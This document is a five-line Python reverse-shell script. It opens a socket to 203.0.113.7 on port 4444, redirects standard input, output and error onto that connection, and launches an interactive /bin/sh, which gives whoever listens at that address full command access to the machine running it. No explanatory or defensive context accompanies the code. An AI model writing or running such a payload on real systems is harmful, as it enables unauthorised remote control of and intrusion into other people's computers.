import os, socket, subprocess
s = socket.create_connection(('203.0.113.7', 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(['/bin/sh', '-i'])
